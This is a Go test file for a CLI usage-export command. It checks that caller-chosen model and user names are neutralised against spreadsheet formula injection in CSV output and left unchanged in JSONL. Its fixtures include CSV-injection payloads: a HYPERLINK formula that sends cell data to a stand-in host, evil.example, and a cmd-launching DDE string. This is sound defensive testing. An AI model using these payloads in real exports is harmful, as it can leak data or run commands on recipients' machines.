package cli

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"moonji/models"
)

// TestUsageExportCSVFormulas checks that text a caller chose (a refused
// request's model name, say) cannot become a spreadsheet formula in the CSV
// export, while JSONL keeps it as it is.
func TestUsageExportCSVFormulas(t *testing.T) {
	cfg := writeConfig(t)
	db, err := openFor(cfg)
	if err != nil {
		t.Fatal(err)
	}
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,1)",
		"\t=1+1",
		"\r=1+1",
	}
	now := time.Now().UTC()
	for i, m := range hostile {
		row := models.Usage{InferenceID: "inf_" + string(rune('a'+i)), CreatedAt: now.Add(time.Duration(i) * time.Millisecond),
			Source: "api", Model: m, User: m, Outcome: "rejected", Status: 401, Reason: "unauthorized", UsageSource: "none"}
		if err := db.Create(&row).Error; err != nil {
			t.Fatal(err)
		}
	}
	benign := models.Usage{InferenceID: "inf_z", CreatedAt: now.Add(time.Second), Source: "api", Model: "llama-3 = fine",
		Outcome: "success", Status: 200, UsageSource: "engine"}
	if err := db.Create(&benign).Error; err != nil {
		t.Fatal(err)
	}
	models.Close(db)

	out, err := run(t, "usage", "export", "--config", cfg, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostile)+2 {
		t.Fatalf("want %d records, got %d:\n%s", len(hostile)+2, len(recs), out)
	}
	col := map[string]int{}
	for i, f := range recs[0] {
		col[f] = i
	}
	for i, m := range hostile {
		rec := recs[i+1]
		for _, f := range []string{"model", "user"} {
			if got := rec[col[f]]; got != "'"+m {
				t.Errorf("%s cell = %q, want %q", f, got, "'"+m)
			}
		}
		// The gateway's own cells are untouched: numbers stay numbers.
		if rec[col["status"]] != "401" || rec[col["prompt_tokens"]] != "0" {
			t.Errorf("numeric cells changed: %q", rec)
		}
	}
	if last := recs[len(recs)-1]; last[col["model"]] != "llama-3 = fine" || last[col["user"]] != "" {
		t.Errorf("a harmless cell changed: %q", last)
	}

	out, err = run(t, "usage", "export", "--config", cfg)
	if err != nil {
		t.Fatal(err)
	}
	var rec map[string]any
	if err := json.Unmarshal([]byte(strings.SplitN(out, "\n", 2)[0]), &rec); err != nil {
		t.Fatal(err)
	}
	if rec["model"] != hostile[0] {
		t.Errorf("JSONL model = %q, want it unchanged", rec["model"])
	}
}
